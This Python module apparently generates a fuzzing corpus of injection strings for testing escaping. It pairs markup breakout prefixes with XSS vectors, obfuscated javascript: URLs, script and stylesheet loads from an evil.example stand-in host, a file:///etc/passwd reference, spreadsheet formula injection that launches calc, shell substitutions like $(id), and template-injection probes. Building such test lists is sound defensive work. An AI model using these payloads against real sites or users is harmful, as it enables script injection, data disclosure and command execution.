"""Two thousand and more words that would do something if they were taken for markup.

Each is a way out of where it stands, and what is tried outside: the product of both lists.
"""

from itertools import product

OUT = (
    *("", '">', "'>", '" ', "' ", "</title>", "</script>", "</style>", "</textarea>", "-->"),
    *("]]>", "</p>", "</a>", "</svg>", "<!--", "`", "\\", "\\u003c/script\\u003e", "&quot;>"),
    *("{{ ", "{% raw %}", "]]", "](", "<![CDATA["),
)
"""Ways out of an attribute, an element, a comment, a string of a script, a template."""

SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#9;script:alert(1)"),
    *("java\tscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x"),
    *("\\\\evil.example\\x", "/\\evil.example", "file:///etc/passwd", "blob:x", "ftp://x/"),
)
"""Addresses that run something, or lead to another machine in disguise."""

ELEMENTS = (
    *("<script>alert(1)</script>", "<script src=//evil.example/x></script>", "<sCript>x"),
    *("<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>"),
    *("<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>", "<math><x"),
    *("<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x>", "<embed src=x>"),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=x>", "<form>"),
    *("<link rel=stylesheet href=//evil.example/x>", "<style>*{color:red}</style>", "<b>x"),
    *("<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=x>", "<!--"),
    *("<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<xmp>"),
    *("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>"),
    *("<template><script>alert(1)</script></template>", "<frameset>", "<?php x ?>"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;"),
    *("<%00script>", "<scr<script>ipt>", "<script\u2028>", "<<script>x//<</script>"),
)
"""Markup that runs something, loads something, or changes how the rest is read."""

ATTRIBUTES = (
    *(
        "onclick=alert(1) x=",
        "onmouseover='alert(1)' ",
        "style=background:url(//evil.example) ",
    ),
    *("autofocus onfocus=alert(1) ", "srcdoc=x ", "formaction=javascript:x ", "href=x "),
)
LINKS = tuple(
    form.format(scheme)
    for form, scheme in product(("[a]({})", "<a href='{}'>a</a>", "![a]({})", "<{}>"), SCHEMES)
)
ELSE = (
    *('=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "=1+1"),
    *(
        "BEGIN:VEVENT",
        "END:VCALENDAR",
        "}}<b>{{",
        "{{ 1234 * 5 }}",
        "{% include 'base.html' %}",
    ),
    *("${alert(1)}", "#{7*7}", "$(id)", "`id`", "\\input{x}", '#read("/etc/passwd")'),
)
"""What spreadsheets, calendars, templates, shells and typesetters may take for an order."""

PAYLOADS = tuple(
    dict.fromkeys(
        f"{out}{what}" for what, out in product((*ELEMENTS, *ATTRIBUTES, *LINKS, *ELSE), OUT)
    )
)
